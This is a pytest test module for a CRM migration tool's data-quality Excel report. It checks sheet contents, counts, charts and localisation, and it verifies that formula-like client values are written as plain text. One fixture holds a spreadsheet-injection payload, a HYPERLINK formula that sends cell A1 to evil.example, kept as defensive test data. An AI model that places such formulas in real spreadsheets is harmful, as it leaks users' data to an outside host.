"""The data-quality workbook, built from a target loaded by the real pipeline (SQLite, PostgreSQL, MariaDB).

One module-scoped target per database kind: two runs of a small client dataset (the second
with a record gone from the 1C export), pending review pairs, then the report written to
.xlsx and read back with openpyxl and python-calamine. Client values that look like
formulas (``=HYPERLINK``, ``@SUM``, ``-1``, ``+7 495 …``) are part of the data.
"""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import create_engine, func, insert, select
from sqlalchemy.engine import make_url

from cli.runner import execute
from connectors.crm_db import schema as s
from connectors.crm_db.engine import TargetError
from connectors.crm_db.report import SHEETS, flatten_payload, report_sheets
from connectors.crm_db.report_workbook import LOW_FILL, report_workbook
from connectors.xlsx_writer import Sheet, write_workbook
from tests.clientdata import BUH_ROWS, CRM_ROWS, write_dataset
from tests.conftest import _server_database  # the target_url databases, kept for a whole module here
from vocabulary.messages import set_language, text

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Лютик")'
CRM = [list(r) for r in CRM_ROWS]
CRM[0][1] = "7707083890"  # Ромашка with an INN whose checksum fails: a warning
CRM[2][3] = "+7 495 1234567"  # the branch's city holds a phone number
BUH = [
    *BUH_ROWS,
    ["-1", HYPERLINK, None, None, "12"],  # a formula as a company name, key "-1", a phone too short
    ["@SUM(1+1)", None, None, None, "+7 495 765-43-21"],
]  # no name: quarantined under key "@SUM(1+1)"
LUTIK = BUH_ROWS[1]  # gone from the 1C export in the second run


@dataclass
class Built:
    url: str
    runs: list[str]  # run ids, oldest first
    report: dict[str, pd.DataFrame]
    book: dict[str, Sheet]  # as written: title → sheet
    workbook: openpyxl.Workbook
    path: Path

    def sheet(self, name: str) -> list[dict]:
        """A sheet of the saved workbook (in Russian) as records, keyed by the report's column names."""
        title = text(f"report.sheet.{name}")
        columns = {self.book[title].headers.get(c, c): c for c in self.book[title].frame.columns}
        rows = list(self.workbook[title].iter_rows(values_only=True))
        return [dict(zip([columns[h] for h in rows[0]], r)) for r in rows[1:]]

    def summary(self) -> dict[str, object]:
        return {row["item"]: row["value"] for row in self.sheet("summary")}

    def scalar(self, query) -> object:
        engine = create_engine(self.url)
        try:
            with engine.connect() as conn:
                return conn.execute(query).scalar_one()
        finally:
            engine.dispose()


@pytest.fixture(
    scope="module",
    params=[
        "sqlite",
        pytest.param("postgres", marks=pytest.mark.postgres),
        pytest.param("mariadb", marks=pytest.mark.mariadb),
    ],
)
def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    folder = tmp_path_factory.mktemp(f"report_{request.param}")
    databases = _database(request.param, folder)
    url = next(databases)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("DAGSTER_HOME", str(folder / "dagster_home"))
            # the second run drops a 1C counterparty on purpose: a deletion beyond the default share
            runs = [
                execute(
                    write_dataset(folder, crm_rows=CRM, buh_rows=buh), target=url, dry_run=False, allow_deletes=True
                ).run_id
                for buh in (BUH, [r for r in BUH if r is not LUTIK])
            ]
        _add_review_pairs(url, runs[-1])
        path = folder / "quality.xlsx"
        report = report_sheets(url)
        book = report_workbook(report)
        write_workbook(path, book)
        yield Built(url, runs, report, book, openpyxl.load_workbook(path), path)
    finally:
        databases.close()  # drops a server database


def _database(kind: str, folder: Path) -> Iterator[str]:
    if kind == "sqlite":
        yield f"sqlite:///{folder / 'crm.db'}"
    else:
        yield from _server_database(kind)


def _add_review_pairs(url: str, run_id: str) -> None:
    """One pair waiting for a decision and one already decided (which the report leaves out)."""
    pair = dict(entity="company", left_source="old_crm", left_key="Клиенты!7", right_source="buh")
    engine = create_engine(url)
    try:
        with engine.begin() as conn:
            conn.execute(
                insert(s.review_pairs),
                [
                    pair | dict(run_id=run_id, right_key="-1", score=72, reasons="=names alike (72)"),
                    pair | dict(run_id=run_id, right_key="@SUM(1+1)", score=90, reasons="same phone"),
                ],
            )
            conn.execute(
                insert(s.match_decisions).values(
                    pair | dict(right_key="@SUM(1+1)", decision="different", decided_at=pd.Timestamp("2024-01-01"))
                )
            )
    finally:
        engine.dispose()


def test_sheets_in_order_with_their_columns(built: Built) -> None:
    """Russian titles and headers; every sheet, the merges and conflicts of the schema included."""
    assert list(built.report) == list(SHEETS)
    assert built.workbook.sheetnames == [text(f"report.sheet.{name}") for name in built.report] == list(built.book)
    assert built.workbook.sheetnames[:3] == ["Сводка", "По источникам", "Заполненность"]
    for name, frame in built.report.items():
        ws = built.workbook[text(f"report.sheet.{name}")]
        header = next(ws.iter_rows(max_row=1, values_only=True))
        assert list(header) == [built.book[ws.title].headers.get(c, c) for c in frame.columns]
        assert ws.max_row == len(frame) + 1
        assert ws.freeze_panes == "A2"
        if len(frame):
            (table,) = ws.tables.values()  # an Excel table with filter buttons over the whole sheet
            assert table.ref == ws.dimensions and table.autoFilter is not None
    quarantine = next(built.workbook["Карантин"].iter_rows(max_row=1))
    assert [c.value for c in quarantine] == [
        "Источник",
        "Место в источнике",
        "Тип записи",
        "Ключ в источнике",
        "Причины",
        "Запись",
    ]
    assert quarantine[4].comment.text == "Почему запись не загружена."


def test_summary_is_the_last_run_and_the_live_crm(built: Built) -> None:
    summary = {
        key: built.summary()[text(f"report.item.{key}")]
        for key in (
            "run_id",
            "status",
            "companies_deleted",
            "records_read",
            "crm_companies",
            "crm_branches",
            "crm_contacts",
            "crm_with_inn",
            "crm_with_inn_pct",
            "crm_phones",
            "crm_phones_invalid",
            "crm_review_waiting",
            "quarantined",
        )
    }
    c, ct, ph = s.companies, s.contacts, s.phones
    assert summary["run_id"] == built.runs[-1] and summary["status"] == "успешно"
    assert summary["companies_deleted"] == 1  # Лютик is gone from the 1C export
    assert summary["records_read"] == built.scalar(
        select(s.migration_runs.c.records_read).where(s.migration_runs.c.id == built.runs[-1])
    )
    live = c.c.deleted_at.is_(None)
    assert summary["crm_companies"] == built.scalar(select(func.count()).where(live)) == 4
    assert summary["crm_branches"] == built.scalar(select(func.count()).where(live, c.c.parent_id.is_not(None)))
    assert summary["crm_contacts"] == built.scalar(select(func.count()).where(ct.c.deleted_at.is_(None))) == 3
    assert summary["crm_with_inn"] == 3 and summary["crm_with_inn_pct"] == 75.0
    company_phones = built.scalar(
        select(func.count()).select_from(ph.join(c, c.c.id == ph.c.company_id)).where(live, ph.c.contact_id.is_(None))
    )
    contact_phones = built.scalar(
        select(func.count()).select_from(ph.join(ct, ct.c.id == ph.c.contact_id)).where(ct.c.deleted_at.is_(None))
    )
    assert summary["crm_phones"] == company_phones + contact_phones
    assert summary["crm_phones_invalid"] == 1  # "12"
    assert summary["crm_review_waiting"] == 1
    assert summary["quarantined"] == len(built.sheet("quarantine")) == 2


def test_by_source_counts_the_links(built: Built) -> None:
    by_source = {row["source"]: row for row in built.sheet("by_source")}
    assert by_source["buh"] == {
        "source": "buh",
        "companies": 2,
        "contacts": 0,
        "gone_from_source": 1,
        "quarantined": 1,
        "with_warnings": 1,
    }
    sl = s.source_links
    assert (
        by_source["old_crm"]["companies"]
        == built.scalar(
            select(func.count()).where(sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None))
        )
        == 4
    )
    assert by_source["old_crm"]["quarantined"] == 1


def test_quarantine_rows_say_why(built: Built) -> None:
    rows = built.sheet("quarantine")
    assert {(r["source"], r["origin"], r["reasons"]) for r in rows} == {
        ("old_crm", "Клиенты!8", "название: пусто"),
        ("buh", "buh.csv:4", "название: пусто"),
    }  # line 4 once Лютик is gone
    buh = next(r for r in rows if r["source"] == "buh")
    assert buh["source_key"] == "@SUM(1+1)"
    assert buh["record"] == "Код: @SUM(1+1); Телефон: +7 495 765-43-21"


def test_warnings_name_the_record_to_fix(built: Built) -> None:
    rows = built.sheet("warnings")
    inn = next(r for r in rows if r["warning"].startswith("ИНН '7707083890'"))
    assert (inn["source"], inn["origin"], inn["entity"], inn["crm_name"]) == (
        "old_crm",
        "Клиенты!4",
        "компания",
        'ООО "Ромашка"',
    )
    phone = next(r for r in rows if r["source"] == "buh")
    assert phone["source_key"] == "-1" and phone["warning"].startswith("телефон '12'")
    assert len(rows) == 2


def test_duplicates_list_every_origin(built: Built) -> None:
    (romashka,) = built.sheet("duplicates")
    assert (romashka["entity"], romashka["name"], romashka["inn"], romashka["records"], romashka["sources"]) == (
        "компания",
        'ООО "Ромашка"',
        "7707083893",
        3,
        "old_crm, buh",
    )
    assert sorted(romashka["origins"].splitlines()) == ["buh buh.csv:2 [001]", "old_crm Клиенты!4", "old_crm Клиенты!5"]


def test_branches_point_at_their_head_office(built: Built) -> None:
    (branch,) = built.sheet("branches")
    assert (branch["name"], branch["kpp"], branch["city"], branch["head_office"], branch["head_office_kpp"]) == (
        'ООО "Ромашка"',
        "781043001",
        "+7 495 1234567",
        'ООО "Ромашка"',
        "773601001",
    )


def test_review_shows_pending_pairs_with_crm_names(built: Built) -> None:
    (pair,) = built.sheet("review")
    hyperlink_company = built.scalar(select(s.companies.c.name).where(s.companies.c.name.startswith("=")))
    assert (pair["left_key"], pair["left_name"], pair["right_key"], pair["right_name"], pair["score"]) == (
        "Клиенты!7",
        "ИП Кузнецов Павел Андреевич",
        "-1",
        hyperlink_company,
        72,
    )
    assert pair["left_origin"] == "Клиенты!7" and pair["right_origin"] == "buh.csv:3"


def test_runs_newest_first(built: Built) -> None:
    assert [r["id"] for r in built.sheet("runs")] == built.runs[::-1]


def test_client_text_never_becomes_a_formula(built: Built) -> None:
    cells = [c for ws in built.workbook for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    hyperlink_company = built.scalar(select(s.companies.c.name).where(s.companies.c.name.startswith("=")))
    assert hyperlink_company.startswith("=HYPERLINK(")
    assert {hyperlink_company, "-1", "@SUM(1+1)", "+7 495 1234567", "=names alike (72)"} <= texts
    assert all(c.quotePrefix for c in cells if c.value in {hyperlink_company, "-1", "@SUM(1+1)"})
    calamine = CalamineWorkbook.from_path(str(built.path))
    read = {v for name in calamine.sheet_names for row in calamine.get_sheet_by_name(name).to_python() for v in row}
    assert {hyperlink_company, "-1", "@SUM(1+1)", "+7 495 1234567"} <= read


def test_an_earlier_run_by_id_prefix(built: Built) -> None:
    report = report_sheets(built.url, built.runs[0][:8])
    summary = dict(zip(report["summary"]["item"], report["summary"]["value"]))
    assert summary["Запуск"] == built.runs[0] and summary["Компании: удалены"] == 0
    assert summary["Компании: созданы"] == 5
    assert len(report["quarantine"]) == 2


def test_an_unknown_run_is_a_one_line_error(built: Built) -> None:
    with pytest.raises(TargetError, match=r"^в .* нет запуска nosuchrun \(все запуски — на листе runs") as error:
        report_sheets(built.url, "nosuchrun")
    assert "\n" not in str(error.value)


def test_a_target_without_data_is_a_one_line_error(target_url: str) -> None:
    """Nothing is created by asking (no SQLite file); a password never shows."""
    url = (
        target_url
        if target_url.startswith("sqlite")
        else make_url(target_url).set(password="s3cret").render_as_string(hide_password=False)
    )
    with pytest.raises(TargetError) as error:
        report_sheets(url)
    message = str(error.value)
    assert "\n" not in message and "s3cret" not in message
    assert message.startswith(("в ", "целевая база "))  # no crm-migrate data in … | target …: the driver's error
    if target_url.startswith("sqlite"):
        assert message == text("target.no_data", target=target_url)
        assert not Path(make_url(target_url).database).exists()


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ('{"Город": "Москва", "ИНН": null, "Телефон": ["1", "2"]}', "Город: Москва; Телефон: 1, 2"),
        ("not json", "not json"),
        (None, None),
    ],
)
def test_stored_records_read_as_one_line(payload: str | None, expected: str | None) -> None:
    assert flatten_payload(payload) == expected


def test_fill_rate_per_field_and_source(built: Built) -> None:
    rates = {row["field"]: row for row in built.sheet("fill_rate")}
    c, sl = s.companies, s.source_links
    linked = sl.join(c, c.c.id == sl.c.crm_id)
    live = [sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None), c.c.deleted_at.is_(None)]
    total = built.scalar(select(func.count()).select_from(linked).where(*live))
    with_inn = built.scalar(select(func.count()).select_from(linked).where(*live, c.c.inn.is_not(None), c.c.inn != ""))
    assert rates["Компания: ИНН"]["old_crm"] == round(100 * with_inn / total, 1)
    assert set(rates["Компания: ИНН"]) == {"field", "old_crm", "buh"}
    assert "Контакт: должность" in rates
    ws = built.workbook["Заполненность"]
    ranges = {str(cf.sqref): [(r.operator, r.formula) for r in cf.rules] for cf in ws.conditional_formatting}
    last = ws.max_row
    assert ranges == {f"B2:B{last}": [("lessThan", [str(LOW_FILL)])], f"C2:C{last}": [("lessThan", [str(LOW_FILL)])]}


def test_quarantine_reasons_are_counted(built: Built) -> None:
    assert built.sheet("quarantine_reasons") == [{"reason": "название: пусто", "records": 2}]


def test_the_summary_has_three_charts_of_the_other_sheets(built: Built) -> None:
    with zipfile.ZipFile(built.path) as package:
        charts = sorted(n for n in package.namelist() if n.startswith("xl/charts/chart"))
        xml = "".join(package.read(n).decode("utf-8") for n in charts)
        drawing_rels = package.read("xl/worksheets/_rels/sheet1.xml.rels").decode("utf-8")
    assert len(charts) == 3 and "drawing" in drawing_rels  # all on the first sheet, the summary
    for title in ("Записи и карантин по источникам", "Карантин по причинам", "Заполненность полей по источникам, %"):
        assert title in xml
    assert "'По источникам'!$A$2:$A$3" in xml and "'Причины карантина'!$B$2" in xml
    assert "Заполненность!$C$2:$C$18" in xml  # one series per source, a row per field


def test_english_with_language_en(built: Built) -> None:
    set_language("en")
    try:
        book = report_workbook(built.report)
    finally:
        set_language("ru")
    assert list(book)[:4] == ["Summary", "By source", "Fill rate", "Quarantine reasons"]
    assert book["Quarantine"].headers["origin"] == "Origin"
    assert book["Quarantine"].notes["reasons"] == "Why the record was not loaded."


def test_merges_and_conflicts_sheets_come_with_their_tables(tmp_path: Path, built: Built) -> None:
    """Every merge of the run with its explanation; conflicts as stored, client text never a formula."""
    merges = built.report["merges"]
    assert len(merges) > 0 and {
        "entity",
        "left_source",
        "left_key",
        "right_source",
        "right_key",
        "score",
        "reasons",
    } <= set(merges.columns)
    assert set(merges["entity"]) <= {"company", "contact"} and merges["reasons"].map(bool).all()
    if not built.url.startswith("sqlite"):
        return
    copy = tmp_path / "crm.db"
    copy.write_bytes(Path(make_url(built.url).database).read_bytes())
    url = f"sqlite:///{copy}"
    engine = create_engine(url)
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO conflicts (run_id, entity, crm_id, field, crm_value, source_value) "
            "VALUES ('r', 'company', 1, 'name', '=HYPERLINK(\"x\")', 'ООО Ромашка')"
        )
    engine.dispose()
    report = report_sheets(url)
    assert report["conflicts"].to_dict("records")[0]["crm_value"] == '=HYPERLINK("x")'
    path = tmp_path / "quality.xlsx"
    write_workbook(path, report_workbook(report))
    ws = openpyxl.load_workbook(path)[text("report.sheet.conflicts")]
    cell = next(c for row in ws.iter_rows(min_row=2) for c in row if c.value == '=HYPERLINK("x")')
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_a_line_no_reader_could_split_reads_as_it_was() -> None:
    assert flatten_payload('{"raw": "R1;ООО Альфа;;"}') == "R1;ООО Альфа;;"


def test_the_run_workbook_lists_the_first_rows_and_report_writes_them_all(
    tmp_path: Path, target_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    """A sheet of the run's workbook holds RUN_WORKBOOK_ROWS rows (1 here) and the summary says how many were
    left out; `crm-migrate report` writes every row; the quarantine reasons count every record either way."""
    from cli.main import main
    from pipelines import loading

    monkeypatch.setattr(loading, "RUN_WORKBOOK_ROWS", 1)
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))
    kuznetsov = ["004", "ИП Кузнецов Павел Андреевич", "500100732259", None, "8-916-123-45-67"]  # a second duplicate
    config = write_dataset(tmp_path, crm_rows=CRM, buh_rows=[*BUH, kuznetsov], target=target_url)
    assert main(["run", "--config", str(config)]) == 0
    (run_book,) = (tmp_path / "reports").glob("quality-*.xlsx")
    out = tmp_path / "quality.xlsx"
    assert main(["report", "--config", str(config), "--out", str(out)]) == 0
    capsys.readouterr()

    def rows(path: Path) -> dict[str, list[tuple]]:
        book = openpyxl.load_workbook(path)
        return {ws.title: list(ws.iter_rows(min_row=2, values_only=True)) for ws in book}

    cut, whole = rows(run_book), rows(out)
    title = {name: text(f"report.sheet.{name}") for name in SHEETS}
    longer = [n for n in ("quarantine", "warnings", "duplicates", "branches", "review") if len(whole[title[n]]) > 1]
    assert {"quarantine", "warnings", "duplicates"} <= set(longer)
    summary = {item: value for item, value, *_ in cut[title["summary"]]}
    for name in longer:
        assert cut[title[name]] == whole[title[name]][:1]
        total = len(whole[title[name]])
        assert summary[text("report.item.left_out", sheet=title[name], shown=1, total=total)] == total - 1
    assert summary[text("report.item.whole_lists")] == "crm-migrate report --config migration.yaml --out quality.xlsx"
    assert cut[title["quarantine_reasons"]] == whole[title["quarantine_reasons"]]  # of every quarantined record
    whole_summary = {item for item, *_ in whole[title["summary"]]}
    assert text("report.item.whole_lists") not in whole_summary

    _add_review_pairs(target_url, run_id(run_book))  # one pair waiting, one decided
    waiting = len(report_sheets(target_url)["review"])
    capped = report_sheets(target_url, limit=1)
    assert len(capped["review"]) == 1
    assert dict(capped["summary"].itertuples(index=False))[text("report.item.crm_review_waiting")] == waiting


def run_id(workbook: Path) -> str:
    return workbook.stem.removeprefix("quality-")
